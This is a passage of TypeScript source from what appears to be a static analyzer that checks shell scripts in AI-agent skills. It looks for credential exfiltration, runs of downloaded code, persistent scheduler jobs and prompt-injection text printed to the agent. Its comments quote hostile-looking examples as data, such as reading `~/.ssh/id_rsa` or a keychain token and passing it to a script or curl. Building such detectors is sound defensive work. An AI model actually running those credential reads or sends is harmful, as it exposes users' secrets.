   * quoted as those of a server entry in an MCP config are (markdown/config.ts shellWord);
   * undefined for any other command, a remote server (a URL) or a word only known at run time.
   */
  mcpServerCommand(f: CmdFact): string | undefined {
    if (!MCP_CLIS.has(f.fam) || f.args[0]?.s !== 'mcp' || f.args[1]?.s !== 'add') return undefined;
    const rest = f.args.slice(2);
    const dash = rest.findIndex((a) => a.s === '--');
    let argv: Val[];
    if (dash >= 0) argv = rest.slice(dash + 1);
    else {
      // NAME COMMAND ARGS after the options: the first word that is no option nor its value
      let i = 0;
      let named = false;
      for (; i < rest.length; i++) {
        const a = (rest[i] as Val).s;
        if (MCP_ADD_VALUED.test(a)) i++;
        else if (!a.startsWith('-')) {
          if (named) break;
          named = true;
        }
      }
      argv = rest.slice(i);
    }
    if (!argv.length || !argv.every((a) => a.known) || /^https?:\/\//i.test(argv[0]?.s ?? ''))
      return undefined;
    return argv.map(({ s: w }) => shellWord(w)).join(' ');
  }

  /**
   * An agent scheduler job (`openclaw cron add --every 1h --message "…"`) by what it runs:
   * `remote` when its payload fetches or runs code from the network, sends data out or touches
   * credentials (or is computed from a download), `local` when it runs a program or script (a
   * recurring job, or a payload only known at run time), `message` for a plain prompt or reminder.
   */
  agentJob(f: CmdFact): 'remote' | 'local' | 'message' | undefined {
    const payload = this.agentJobPayload(f);
    if (!payload) return undefined;
    // a payload built by a command whose output is known (`"$(cat <<'EOF' … EOF)"`,
    // `"$(echo … | base64 -d)"`) is classified by that text
    const parts = payload.map((v) => v.s);
    for (const v of payload)
      for (const id of v.sources) {
        const o = this.outputs.out(id);
        const t = o ? printable(o.bytes) : undefined;
        if (t) parts.push(t);
      }
    const text = parts.join('\n');
    if (
      REMOTE_PAYLOAD.test(text) ||
      REMOTE_URL.test(text) ||
      REMOTE_ORDERS.test(text) ||
      SECRET_PAYLOAD.test(text)
    )
      return 'remote';
    const computed = payload.some(
      (v) =>
        !v.known &&
        !(v.sources.size && !v.vars.length && [...v.sources].every((id) => this.outputs.out(id))),
    );
    if (computed)
      for (const v of payload)
        for (const s of this.flow.val(v)) {
          const g = this.flow.fact(s);
          if (g && (g.hosts.length || g.dynamicHost)) return 'remote';
        }
    // a one-shot job (`--at`) that deletes itself after the run is no persistence
    const oneShot = f.flags.has('--at') && !f.flags.has('--keep-after-run');
    if (!oneShot && (computed || LOCAL_PAYLOAD.test(text))) return 'local';
    return 'message';
  }

  /**
   * A value computed at run time that can carry nothing of the user's: every variable in it is
   * a positional argument or one the script assigns from other commands' output (never one only
   * the environment or a sourced file sets), and those commands are network clients (what flows
   * on is their response), the machine's kernel or architecture name (systemFact) or text filters
   * of such values that read no file and name no identity.
   * `$(cat ~/.ssh/id_rsa)`, `$HOSTNAME` or a variable a `.env` set keep the value computed.
   */
  readonly inert = (v: Val): boolean => {
    // (`@top`/`*top`: the script's own "$@" outside functions, see syntax.ts param)
    const positional = (n: string) => /^(?:[1-9]|[@*](?:top)?)$/.test(n);
    const varsOk = (names: Iterable<string>) => {
      for (const n of names) {
        if (positional(n)) continue;
        const st = this.facts.env.vars.get(n);
        if (!st || IDENTITY_ENV.test(n)) return false;
        if (st.value !== undefined && !st.value.includes(UNKNOWN)) continue;
        if (!st.sources.size && !st.deep.names.size) return false;
      }
      return true;
    };
    const valOk = (x: Val) => varsOk([...x.vars, ...(x.deep ?? [])]);
    if (!valOk(v)) return false;
    // the commands whose output reaches the value, back to the network clients that answered
    const todo = [...v.sources];
    for (const n of [...v.vars, ...(v.deep ?? [])])
      todo.push(...(this.facts.env.vars.get(n)?.sources ?? []));
    const seen = new Set<number>();
    while (todo.length) {
      const id = todo.pop() as number;
      if (seen.has(id)) continue;
      seen.add(id);
      if (seen.size > 256) return false;
      const g = this.flow.fact(id);
      if (!g) return false;
      // what flows on is the response, not the request (the request is judged as a sink itself)
      if (g.hosts.length || g.dynamicHost) continue;
      // the kernel and architecture names a release download picks its file by
      if (systemFact(g)) continue;
      if (!RESPONSE_FILTERS.has(g.fam) || g.reads.some((r) => r !== '/dev/null')) return false;
      if (g.args.some((a) => (FILTER_ESCAPES[g.fam] ?? /$^/).test(a.s))) return false;
      const inputs = g.inputVal ? [...g.args, g.inputVal] : [...g.args];
      if (!inputs.every(valOk)) return false;
      todo.push(...g.cmd.stdin);
      // a body command without a pipe of its own reads the stdin of the function's calls
      if (!g.cmd.stdin.length && !g.inputVal)
        for (const [fn, [from, to]] of this.facts.script.functionSpans)
          if (id >= from && id < to)
            for (const c of this.facts.facts)
              if (c.name === fn) {
                todo.push(...c.cmd.stdin);
                if (c.inputVal && !valOk(c.inputVal)) return false;
                if (c.inputVal) inputs.push(c.inputVal);
                if (c.cmd.redirects.some((r) => FILE_INPUT.has(r.op))) return false;
              }
      if (g.cmd.redirects.some((r) => FILE_INPUT.has(r.op))) return false;
      for (const a of inputs) {
        todo.push(...a.sources);
        for (const n of [...a.vars, ...(a.deep ?? [])])
          todo.push(...(this.facts.env.vars.get(n)?.sources ?? []));
      }
    }
    return true;
  };

  /**
   * A curl/wget whose destination the user configured: every URL starts with a variable the
   * script never sets (`"$SLACK_WEBHOOK_URL"`, `"$API/tasks"`: the environment or a file the
   * skill sources sets it), no part of a URL is another command's output, and nothing the
   * request carries reads a file or dumps the environment. The skill names no host here;
   * compare.ts makes it a review instead of exfiltration when the secrets read are the user's
   * own config, sourced in the same file, and the skill names no other host.
   */
  configDestination(f: CmdFact): boolean {
    if (f.fam !== 'curl' && f.fam !== 'wget') return false;
    const urls = [...f.positional, ...(f.opts.get('--url') ?? [])];
    if (!urls.length) return false;
    const assigned = this.facts.script.assigned;
    const unset = (n: string) =>
      !assigned.has(n) && !IDENTITY_ENV.test(n) && !/^(?:[0-9@*#?$!-]|HOME|PWD|OLDPWD)$/.test(n);
    for (const u of urls) {
      const lead = /^"?\$\{?([A-Za-z_]\w*)\}?/.exec(u.raw);
      if (!lead || !unset(lead[1] as string) || u.sources.size) return false;
      if (![...u.vars, ...(u.deep ?? [])].every(unset)) return false;
    }
    for (const id of this.flow.data(f)) {
      const g = this.flow.fact(id);
      if (!g || ENV_DUMPS.has(g.fam)) return false;
      if (g.reads.some((r) => r !== '/dev/null')) return false;
    }
    return true;
  }

  /**
   * The environment variable every URL of a curl/wget takes its host from (`"https://${JIRA_DOMAIN}/rest/api/3/search"`,
   * `"$CONFLUENCE_URL/wiki/…"`), a variable the script never sets and no command's output; the
   * rest of the URL may be the script's own (a project path it escaped). Nothing the request
   * carries reads a file or dumps the environment. compare.ts reads it beside a dotenv the
   * script loads: a service's token sent to the service's own address the user configured.
   */
  hostVariable(f: CmdFact): string | undefined {
    if (f.fam !== 'curl' && f.fam !== 'wget') return undefined;
    const urls = [...f.positional, ...(f.opts.get('--url') ?? [])];
    const assigned = this.facts.script.assigned;
    let name: string | undefined;
    for (const u of urls) {
      const m = /^"?(?:https?:\/\/)?\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))(?=["'/:?]|$)/.exec(
        u.raw,
      );
      const n = m?.[1] ?? m?.[2];
      if (!n || assigned.has(n) || IDENTITY_ENV.test(n) || (name && n !== name)) return undefined;
      name = n;
    }
    if (!name) return undefined;
    for (const id of this.flow.data(f)) {
      const g = this.flow.fact(id);
      if (!g || ENV_DUMPS.has(g.fam) || g.reads.some((r) => r !== '/dev/null')) return undefined;
    }
    return name;
  }

  /** the text a command writes when it is statically known (its output, else its stdin) */
  writtenText(f: CmdFact): string | undefined {
    const o = this.outputs.out(f.id) ?? this.outputs.stdin(f);
    return o ? printable(o.bytes) : undefined;
  }

  hits(m: BashMatch): Hit[] {
    return planFor(m)(this);
  }

  /** `flow` matches: a command (`to`) takes code, data or file arguments from a `from` command */
  flowHits(
    fromTests: ReadonlyArray<(f: CmdFact) => boolean>,
    to: Patterns | undefined,
    into: 'code' | 'data' | 'file',
    digest?: 'unpinned' | 'pinned',
    issuerExempt = false,
  ): Hit[] {
    const out: Hit[] = [];
    const isTo = to && this.someMatches(to);
    const fromMemo = new Map<number, boolean>();
    const isFrom = (id: number) => {
      let hit = fromMemo.get(id);
      if (hit === undefined) {
        const s = this.flow.fact(id);
        hit = s !== undefined && fromTests.some((t) => t(s));
        fromMemo.set(id, hit);
      }
      return hit;
    };
    const sourcesOf = (flow: Flow, f: CmdFact) =>
      into === 'code' ? flow.code(f) : into === 'file' ? flow.fileArgs(f) : flow.data(f);
    const firstFrom = (sources: Set<number>) => {
      for (const s of sources) if (isFrom(s)) return s;
      return undefined;
    };
    for (const [i, f] of this.facts.facts.entries()) {
      if ((f.id & 63) === 0) checkDeadline(this.ctx);
      if (isTo && !isTo(f, i)) continue;
      if (digest === 'pinned' && !f.cmd.guards) continue;
      let s = firstFrom(sourcesOf(this.flow, f));
      if (s === undefined) continue;
      if (digest) {
        // the same flow with the writers of files checked against a pinned digest left out (a
        // file argument, `chmod +x f`, may come before the check: it runs nothing)
        const cut =
          into === 'file' ? this.pins.allCut() : f.cmd.guards ? this.pins.cutFor(f) : undefined;
        const unpinned = cut ? firstFrom(sourcesOf(this.flowWithout(cut), f)) : s;
        if (digest === 'unpinned') s = unpinned;
        else if (unpinned !== undefined) s = undefined;
        if (s === undefined) continue;
      }
      if (into === 'code' && this.ownCloneRun(f, sourcesOf(this.flow, f), isFrom)) continue;
      // a credential sent only to the service that issued it: a client authenticating (not one
      // put in the request's body, which that service keeps and shows: an issue, a message)
      if (issuerExempt && !f.dynamicHost && !this.sendsAsContent(f, isFrom)) {
        const credentials = [...sourcesOf(this.flow, f)].filter(isFrom).flatMap((id) => {
          const g = this.flow.fact(id);
          return g ? this.credentials(g) : [''];
        });
        if (
          soleIssuer(
            credentials,
            f.hosts.map((h) => h.host),
            this.ctx.ownNames?.(),
          )
        )
          continue;
      }
      // a cloud access token sent only to the resource it was minted for (audience.ts)
      if (
        issuerExempt &&
        !f.hosts.length &&
        !this.sendsAsContent(f, isFrom) &&
        this.audienceClient(f, [...sourcesOf(this.flow, f)].filter(isFrom))
      )
        continue;
      const src = this.flow.fact(s);
      out.push({
        fact: f,
        detail:
          src && src.id !== f.id ? `${src.name} (line ${src.cmd.line}) → ${f.name}` : undefined,
        ...(src && src.id !== f.id ? { from: src } : {}),
      });
    }
    return out;
  }

  /**
   * Every secret `f` is sent is an access token minted for the resource one environment variable
   * names (`az account get-access-token --resource "$ENV_URL"`), the script never gives that
   * variable a value of its own, and every URL `f` requests begins with it (audience.ts).
   */
  private audienceClient(f: CmdFact, sources: readonly number[]): boolean {
    const names = new Set(
      sources.map((id) => {
        const g = this.flow.fact(id);
        return g ? tokenAudienceVar(g) : undefined;
      }),
    );
    const [name] = names;
    return (
      names.size === 1 &&
      name !== undefined &&
      !this.facts.script.assigned.has(name) &&
      requestsOnly(f, name)
    );
  }

  /** what the sources that pass `test` print reaches the command's body as content (asContent) */
  private sendsAsContent(f: CmdFact, test: (id: number) => boolean): boolean {
    for (const v of bodyValues(f))
      if (asContent(v) && [...this.flow.val(v)].some(test)) return true;
    return bodyFromStdin(f) && [...this.flow.stdin(f)].some(test);
  }

  /** the credential a command's output holds (credentials.ts), also through `cat .env | grep KEY` */
  private credentials(g: CmdFact): Credential[] {
    if (g.name !== 'cat' || !g.reads.length || !g.reads.every(isDotenv)) return credentialsOf(g);
    const readers = this.readersOf(g);
    return readers.length === 1 ? pipedKey(readers[0] as CmdFact) : credentialsOf(g);
  }

  /**
   * The command prints one credential of a known issuer, and that value reaches only network
   * commands that send to the issuer's own API hosts (at least one), and nothing that writes a
   * file: a client authenticating (`TOKEN=$(security find-generic-password -s "Claude
   * Code-credentials" -w | jq …)` then `curl https://api.anthropic.com/… -H "… $TOKEN"`).
   */
  issuerClient(f: CmdFact): boolean {
    const credentials = credentialsOf(f);
    const issuer = credentials.length === 1 ? issuerOf(credentials[0] as Credential) : undefined;
    if (!issuer) return false;
    const keeps = (g: CmdFact) =>
      [...g.writes, ...g.redirectTargets].some((t) => !/^\/dev\/(?:null|stdout|stderr)$/.test(t));
    if (keeps(f)) return false;
    let sends = false;
    for (const g of this.facts.facts) {
      if (g.id === f.id || !this.flow.data(g).has(f.id)) continue;
      if (keeps(g)) return false;
      if (!g.hosts.length && !g.dynamicHost) continue;
      if (g.dynamicHost || !g.hosts.every((h) => servedBy(h.host, issuer))) return false;
      sends = true;
    }
    return sends;
  }

  /**
   * The skill's own install in one script: every source of what `f` runs is a `git clone` of a
   * repository the skill names as its home, and every path it runs is a file the skill ships, under
   * the clone (`git clone https://host/o/me ~/.claude/skills/me && cd ~/.claude/skills/me &&
   * ./install.sh`). The code run is the code scanned here, installed by hand, as engine/links.ts
   * judges the same steps across files. A clone of any other address, code piped or passed as a
   * string, or a path in the clone the skill does not ship is still downloaded code.
   */
  private ownCloneRun(
    f: CmdFact,
    sources: ReadonlySet<number>,
    isFrom: (id: number) => boolean,
  ): boolean {
    if (f.code.stdin || f.code.words.length || !this.ctx.sibling) return false;
    const runs = f.code.scripts.map((w) => normPath(w.s));
    if (f.program.s.includes('/') || f.program.s.startsWith('.')) runs.push(normPath(f.program.s));
    if (!runs.length) return false;
    const dirs: string[] = [];
    let repos: readonly string[] | undefined;
    for (const id of sources) {
      if (!isFrom(id)) continue;
      const g = this.flow.fact(id);
      if (!g || g.fam !== 'git' || g.positional[0]?.s !== 'clone') return false;
      const named = g.args.filter((a) => a.known).map((a) => repoOf(a.s));
      repos ??= this.ctx.ownRepos?.() ?? [];
      if (!named.some((r) => r !== undefined)) return false;
      if (!named.every((r) => r === undefined || repos?.includes(r))) return false;
      dirs.push(...g.writes);
    }
    return runs.every((p) =>
      dirs.some(
        (d) =>
          !d.includes(UNKNOWN) &&
          p.startsWith(`${d}/`) &&
          !p.includes(UNKNOWN) &&
          this.ctx.sibling?.(p.slice(d.length + 1)) !== undefined,
      ),
    );
  }

  /**
   * For the skill-level step (engine/links.ts): the paths this script saves network data to (a
   * file written by a command whose data comes from a download), and the paths it runs (`bash P`,
   * `./P`, `python P`), sources or makes executable.
   */
  reportLinks(link: (fact: LinkFact) => void): void {
    const fetched = new Map<number, boolean>();
    const fetches = (id: number) => {
      let v = fetched.get(id);
      if (v === undefined) {
        const g = this.flow.fact(id);
        v =
          !!g &&
          (g.hosts.length > 0 || g.dynamicHost) &&
          (DOWNLOADERS.has(g.fam) ||
            FETCHERS.has(g.fam) ||
            (g.fam === 'git' && /^(?:clone|pull|fetch)$/.test(g.positional[0]?.s ?? '')));
        fetched.set(id, v);
      }
      return v;
    };
    // a file this script checks against a digest written in it (pinned.ts) after saving it is
    // vouched for, whichever file runs it: no download of unknown code
    let pinned: Map<string, number> | undefined;
    const vouched = (f: CmdFact, w: string) => {
      if (!pinned) {
        pinned = new Map();
        for (const g of this.facts.facts) {
          const p = this.pins.pin(g.id);
          if (p) for (const q of p.paths) pinned.set(q, Math.max(pinned.get(q) ?? 0, p.before));
        }
      }
      return f.id < (pinned.get(w) ?? -1);
    };
    // the addresses the fetching commands name, when every one names them all written out
    const fetchedFrom = (ids: number[]): string[] | undefined => {
      const out: string[] = [];
      for (const id of ids) {
        const g = this.flow.fact(id);
        if (!g || g.dynamicHost) return undefined;
        const urls = g.args.filter((a) => a.known && URL_ARG.test(a.s)).map((a) => a.s);
        if (!urls.length) return undefined;
        out.push(...urls);
      }
      return out;
    };
    for (const f of this.facts.facts) {
      if ((f.id & 63) === 0) checkDeadline(this.ctx);
      const line = f.cmd.line;
      const writes = f.writes.filter((w) => !/^\/dev\//.test(w));
      if (writes.length && [...this.flow.data(f)].some(fetches)) {
        const from = fetchedFrom([...this.flow.data(f)].filter(fetches));
        for (const w of writes) {
          if (!vouched(f, w)) link({ kind: 'download', path: w, line, ...(from && { from }) });
        }
      } else if (writes.length && (f.fam === 'echo' || f.fam === 'printf')) {
        // text written to a file another command may run (heredocs are analysed where written)
        const text = this.writtenText(f);
        if (text && text.length <= MAX_WRITTEN_TEXT)
          for (const w of writes) link({ kind: 'write', path: w, line, text });
      }
      // a file this command runs only after checking it against a digest written here
      const checked = f.cmd.guards ? this.pins.cutFor(f) : undefined;
      const run = (path: string, how: string, language?: 'bash' | 'python' | 'javascript') => {
        if (!checked?.has(path))
          link({ kind: 'run', path, line, how, ...(language && { language }) });
      };
      const sourced = f.fam === 'source' || f.fam === '.';
      const how = sourced ? 'sources' : 'runs';
      const interp = sourced ? 'sh' : interpreterOf(f.name);
      const language = interp ? INTERPRETERS[interp]?.language : undefined;
      // a loop's variable over a glob (`for f in "$DIR"/lib/*.sh; do source "$f"`) is unknown as
      // a whole; its known pieces name the files it runs
      for (const s of f.code.scripts)
        run(
          normPath(s.s === UNKNOWN && LOOP_GLOB.test(s.partial) ? s.partial : s.s),
          how,
          language,
        );
      // a script's output piped into another script (`bash a.sh | python3 b.py`)
      for (const id of f.cmd.stdin.slice(0, 8)) {
        const g = this.flow.fact(id);
        for (const a of g?.code.scripts ?? [])
          for (const b of f.code.scripts)
            link({ kind: 'pipe', path: normPath(a.s), to: normPath(b.s), line });
      }
      if (f.program.s.includes('/') || f.program.s.startsWith('.'))
        run(normPath(f.program.s), 'runs');
      if (f.fam === 'chmod' && f.positional[0] && EXEC_MODE.test(f.positional[0].s))
        for (const p of f.positional.slice(1)) run(normPath(p.s), 'makes executable');
    }
  }

  private pinsMemo: Pins | undefined;
  private shippedMemo: Shipped | undefined;

  /** the skill's own files the script names */
  get shipped(): Shipped {
    return (this.shippedMemo ??= new Shipped(
      this.facts,
      this.flow,
      this.file.path,
      this.ctx.sibling,
    ));
  }

  get pins(): Pins {
    return (this.pinsMemo ??= new Pins(this.facts, this.flow, this.outputs, this.shipped));
  }

  private cutFlows = new Map<string, Flow>();

  /** a flow that leaves out the writers a cut names (one per distinct cut) */
  private flowWithout(cut: ReadonlyMap<string, number>): Flow {
    const key = JSON.stringify([...cut]);
    let flow = this.cutFlows.get(key);
    if (!flow) {
      flow = new Flow(this.facts, this.ctx.deadline, cut);
      flow.shipped = this.flow.shipped;
      this.cutFlows.set(key, flow);
    }
    return flow;
  }

  /** the name tests of the rule set's command patterns (set by analyzeBash) */
  names: NameIndex | undefined;
  /** per pattern of `names`: the positions in `facts.facts` of the commands its name test accepts */
  private named: Map<number, number[]> | undefined;

  /** some command of the script passes the name test of one of these patterns of `names` */
  namesAny(slots: readonly number[]): boolean {
    if (!this.names) return true;
    const named = this.namedCommands(this.names);
    return slots.some((slot) => named.has(slot));
  }

  /** commands by the patterns their name or family passes the name test of, built once per run */
  private namedCommands(names: NameIndex): Map<number, number[]> {
    if (this.named) return this.named;
    const named = new Map<number, number[]>();
    const accepting = new Map<string, number[]>();
    const add = (name: string, i: number) => {
      let slots = accepting.get(name);
      if (!slots) accepting.set(name, (slots = names.accepting(name)));
      for (const slot of slots) {
        const at = named.get(slot);
        if (!at) named.set(slot, [i]);
        else if (at[at.length - 1] !== i) at.push(i);
      }
    };
    this.facts.facts.forEach((f, i) => {
      add(f.name, i);
      if (f.fam !== f.name) add(f.fam, i);
    });
    return (this.named = named);
  }

  /**
   * "One of these patterns matches the command at position i of `facts.facts`". A pattern of the
   * rule set (`names`) is tested only on the commands whose name or family passes its name test,
   * without repeating that test; any other pattern tests every command.
   */
  private someMatches(p: Patterns): (f: CmdFact, i: number) => boolean {
    const names = this.names;
    if (!names) return (f) => p.tests.some((t) => t(f));
    const named = this.namedCommands(names);
    const passed = p.patterns.map((q) => {
      const slot = names.slots.get(q);
      return slot === undefined ? undefined : new Set(named.get(slot));
    });
    return (f, i) =>
      passed.some((at, k) =>
        at === undefined ? (p.tests[k] as Test)(f) : at.has(i) && (p.named[k] as Test)(f),
      );
  }

  /**
   * The commands a pattern matches, in script order. For a pattern of the rule set (`names`) only
   * the commands whose name or family passes its name test are tested, by `named` (the rest of
   * the pattern); any other pattern tests every command with `test`.
   */
  commandHits(
    pattern: CommandPattern,
    test: (f: CmdFact) => boolean,
    named: (f: CmdFact) => boolean,
  ): Hit[] {
    const facts = this.facts.facts;
    const out: Hit[] = [];
    const slot = this.names?.slots.get(pattern);
    if (slot === undefined || !this.names) {
      for (const fact of facts) if (test(fact)) out.push({ fact });
      return out;
    }
    for (const i of this.namedCommands(this.names).get(slot) ?? []) {
      const fact = facts[i] as CmdFact;
      if (named(fact)) out.push({ fact });
    }
    return out;
  }

  capabilities(kind: string): Hit[] {
    const out: Hit[] = [];
    for (const f of this.facts.facts) {
      if (kind === 'exec') {
        const sub = subcommand(f.positional[0]?.s);
        for (const b of execCapabilities(f, this.facts.script.functions))
          out.push({
            fact: f,
            capability:
              sub !== undefined && !f.wrappers.includes(b)
                ? { kind: 'exec', binary: b, sub }
                : { kind: 'exec', binary: b },
          });
      } else if (kind === 'network') {
        const content = new Set<string>();
        const keys = f.hosts.length ? this.issuerKeys(f, content) : [];
        const contentKeys = [...content].sort();
        for (const h of f.hosts)
          out.push({
            fact: f,
            sends: canSend(f, this.inert),
            ...(keys.length ? { keys } : {}),
            ...(contentKeys.length ? { contentKeys } : {}),
            capability:
              h.port !== undefined
                ? { kind: 'network', host: h.host, port: h.port }
                : { kind: 'network', host: h.host },
          });
      } else if (kind === 'network-dynamic') {
        const hostVar = f.dynamicHost && !f.hosts.length ? this.hostVariable(f) : undefined;
        if (f.dynamicHost && !f.hosts.length)
          out.push({
            fact: f,
            detail: f.name,
            sends: canSend(f, this.inert),
            ...(this.configDestination(f) ? { destination: 'user-config' as const } : {}),
            ...(hostVar ? { hostVariable: hostVar } : {}),
          });
      } else if (kind === 'fs.read' || kind === 'fs.write')
        for (const p of kind === 'fs.read' ? f.reads : f.writes) {
          const path = capPath(p);
          if (path) out.push({ fact: f, capability: { kind, path } });
        }
      else if (kind === 'env')
        for (const name of this.envRefs(f))
          out.push({ fact: f, capability: { kind: 'env', name } });
    }
    return out;
  }

  private envRefs(f: CmdFact): string[] {
    const vars = [...f.program.vars, ...f.args.flatMap((a) => a.vars), ...(f.inputVal?.vars ?? [])];
    for (const e of f.cmd.env) vars.push(...this.facts.env.eval(e.value).vars);
    for (const r of f.cmd.redirects) if (r.target) vars.push(...this.facts.env.eval(r.target).vars);
    const assigned = this.facts.script.assigned;
    return [...new Set(vars)].filter(
      (v) => /^[A-Z][A-Z0-9_]*$/.test(v) && !assigned.has(v) && !SHELL_VARS.has(v) && v !== 'HOME',
    );
  }

  /** environment references in plain assignments (`url="${WEBHOOK_URL:?}"`) */
  assignmentEnvRefs(): Array<{ name: string; line: number }> {
    const out: Array<{ name: string; line: number }> = [];
    const assigned = this.facts.script.assigned;
    for (const e of this.facts.script.events) {
      if (e.t !== 'assign') continue;
      for (const v of this.facts.env.eval(e.a.value).vars)
        if (/^[A-Z][A-Z0-9_]*$/.test(v) && !assigned.has(v) && !SHELL_VARS.has(v) && v !== 'HOME')
          out.push({ name: v, line: e.a.line });
    }
    return out;
  }

  /** decoded payloads, inline code strings and shell-fed heredocs, scanned again */
  /** the commands (among the next 64) that read `f`'s output on their stdin */
  private readersOf(f: CmdFact): CmdFact[] {
    return this.facts.facts.slice(f.id + 1, f.id + 64).filter((g) => g.cmd.stdin.includes(f.id));
  }

  private printed: { hits: Hit[]; findings: Finding[] } | undefined;

  /**
   * Text the script prints where the agent reads it (echo/printf/heredoc output that is neither
   * redirected nor piped), scanned by the prose rules: the commands whose text they flag.
   */
  outputHits(): Hit[] {
    if (!this.printed) {
      const printed = { hits: [] as Hit[], findings: [] as Finding[] };
      this.printed = printed;
      const facts = this.facts.facts;
      for (const f of facts) {
        if (f.redirectTargets.length || printed.hits.length >= 32) continue;
        const o = this.outputs.out(f.id);
        const text = o && !o.decodedFrom ? printable(o.bytes) : undefined;
        if (!text || text.trim().length < 12 || helpForUser(text)) continue;
        if (this.readersOf(f).length) continue;
        const found = this.ctx
          .embedded(text, 'text', {
            line: f.input !== undefined && f.inputLine ? f.inputLine : f.cmd.line,
            decodedFrom: `${f.name} output`,
          })
          .filter(injectionFinding);
        if (!found.length) continue;
        printed.hits.push({ fact: f });
        printed.findings.push(...found);
      }
    }
    return this.printed.hits;
  }

  /** commands whose output is a secret (the `from` of the exfiltration flow rules) */
  secretSources: ReadonlyArray<(f: CmdFact) => boolean> = [];

  /** the kind of data a shell value holds, as code handed to Python or JS sees it */
  private taintOf(v: Val, hosts: readonly string[]): Taint | undefined {
    if (v.sources.size && this.secretSources.length) {
      const secrets: CmdFact[] = [];
      for (const s of this.flow.val(v)) {
        const g = this.flow.fact(s);
        if (g && this.secretSources.some((t) => t(g))) secrets.push(g);
      }
      // a tool's stored credential sent only to that tool's own API, as bash-exfiltration's
      // issuer exemption: a client authenticating (the skill-level check still reviews it)
      if (
        secrets.length &&
        !soleIssuer(
          secrets.flatMap((g) => this.credentials(g)),
          hosts,
        )
      )
        return 'secret';
    }
    return this.hasIdentity(v) ? 'identity' : undefined;
  }

  private taints = new Map<number, (v: Val) => Taint | undefined>();

  /** how values handed to this command's code are marked: by the hosts its code names */
  private taint(f: CmdFact): (v: Val) => Taint | undefined {
    let t = this.taints.get(f.id);
    if (!t) {
      const raw = [
        ...f.cmd.words.map((w) => w.raw),
        ...f.cmd.redirects.map((r) => r.body?.raw ?? r.target?.raw ?? ''),
      ].join('\n');
      // every URL's host as written (`https://$HOST/…` names none of an issuer's)
      const hosts = [...raw.matchAll(/\b[a-z][a-z0-9+.-]*:\/\/([^\s/'"`?#]*)/gi)].map((m) =>
        (m[1] as string)
          .replace(/^[^@]*@/, '')
          .replace(/:\d+$/, '')
          .toLowerCase(),
      );
      const taint = (v: Val) => this.taintOf(v, hosts);
      this.taints.set(f.id, taint);
      t = taint;
    }
    return t;
  }

  /**
   * `python3 send.py ~/.ssh/id_rsa`: a Python or JS file the skill ships, run with the path of a
   * credential file of the user's as an argument, is that file's code with `sys.argv[N]` /
   * `process.argv[N]` the path written in, so what it does with the file is judged as a read of
   * it (undefined when no argument names one, or the file is not the skill's own)
   */
  private credentialArguments(
    f: CmdFact,
  ): { text: string; lang: 'python' | 'javascript' } | undefined {
    const lang = BashRun.interpreterLang(f);
    const [script, more] = f.code.scripts;
    if (!lang || !script || more || f.code.stdin || f.code.words.length) return undefined;
    const at = f.positional.indexOf(script);
    if (at < 0) return undefined;
    const args = f.positional.slice(at + 1);
    const paths = args.map((a) => (a.known ? normPath(a.s) : undefined));
    if (!paths.some((p) => p !== undefined && credentialFile(str(p)))) return undefined;
    const file = this.shipped.file(script, f);
    if (!file || file.text.length > 200_000) return undefined;
    // (argv[0] is the script in both: the arguments after it are 1…; node's process.argv[1])
    const shift = lang === 'python' ? 0 : 1;
    let changed = false;
    const text = file.text.replace(
      lang === 'python'
        ? /\bsys\.argv\s*\[\s*(\d{1,3})\s*\]/g
        : /\bprocess\.argv\s*\[\s*(\d{1,3})\s*\]/g,
      (m: string, n: string) => {
        const p = paths[Number(n) - 1 - shift];
        if (p === undefined || !credentialFile(str(p))) return m;
        changed = true;
        return JSON.stringify(p);
      },
    );
    return changed ? { text, lang } : undefined;
  }

  private static interpreterLang(f: CmdFact): 'python' | 'javascript' | undefined {
    return f.fam === 'python'
      ? 'python'
      : f.fam === 'node' || f.fam === 'bun' || f.fam === 'deno'
        ? 'javascript'
        : undefined;
  }

  /** a `sh -c` / `eval` string with the outer expansions as inner variables (see interp.ts) */
  private shellCode(f: CmdFact, w: Val): string | undefined {
    const word = f.cmd.words.find((x) => x.raw === w.raw);
    if (!word) return undefined;
    return expandShellCode(word, this.facts.env, this.taint(f), (v, t) => {
      // the command that gave the value, run again in the inner script: its output is the value
      for (const s of this.flow.val(v)) {
        const g = this.flow.fact(s);
        if (!g) continue;
        if (t === 'secret' ? this.secretSources.some((x) => x(g)) : this.isIdentitySource(g))
          return `"$(${this.evidence(g)})"`;
      }
      const name = [...v.vars, ...(v.deep ?? [])].find((n) => IDENTITY_ENV.test(n));
      return t === 'identity' && name ? `"$${name}"` : undefined;
    });
  }

  /**
   * The PowerShell a `powershell`/`pwsh` command line runs: the words after `-Command` (or a
   * prefix of it, `-c`), or the base64 after `-EncodedCommand` (`-enc`, `-e`, `-ec`) handed over
   * with its option so the PowerShell analyzer decodes it. Its options are single-dash words
   * of any case, which the getopt-style parse of OPTION_SPECS does not read.
   */
  private powershellCode(f: CmdFact): string | undefined {
    const at = f.args.findIndex((a) => {
      if (!a.known || !/^[-/][a-z]+$/i.test(a.s)) return false;
      const o = a.s.slice(1).toLowerCase();
      return 'command'.startsWith(o) || 'encodedcommand'.startsWith(o) || o === 'ec';
    });
    if (at < 0) return undefined;
    const opt = (f.args[at] as Val).s.slice(1).toLowerCase();
    const words = f.args.slice(at + 1).map((w) => this.interpreterCode(f, w) ?? '');
    const code = words.join(' ').trim();
    if (!code) return undefined;
    return opt.startsWith('c') ? code : `powershell -EncodedCommand ${words[0] ?? ''}`;
  }

  /** a `-c`/`-e` string of Python or JS with the shell's expansions in place (see interp.ts) */
  private interpreterCode(f: CmdFact, w: Val): string | undefined {
    if (w.known) return w.s;
    const word = f.cmd.words.find((x) => x.raw === w.raw);
    return word ? expandCode(word, this.facts.env, this.taint(f)) : undefined;
  }

  /**
   * Environment and argument reads in Python or JS code of variables or arguments the script
   * filled with a secret or an identity; `fromStdin`: the code is the interpreter's stdin
   */
  private interpreterEnv(f: CmdFact, code: string, fromStdin: boolean): string {
    const lang = BashRun.interpreterLang(f);
    if (!lang) return code;
    const env = this.facts.env;
    // sys.argv[0] is '-' or '-c', process.argv[0] the program: the arguments after the code are 1…
    const pos = f.positional;
    const argv: Array<Val | undefined> = fromStdin
      ? lang === 'python' && pos[0]?.s === '-'
        ? pos
        : []
      : [undefined, ...pos];
    code = taintArgv(code, lang, argv, this.taint(f));
    return taintEnvReads(
      code,
      lang,
      (name) => {
        const pre = f.cmd.env.find((e) => e.name === name);
        if (pre) return env.eval(pre.value);
        return env.vars.has(name)
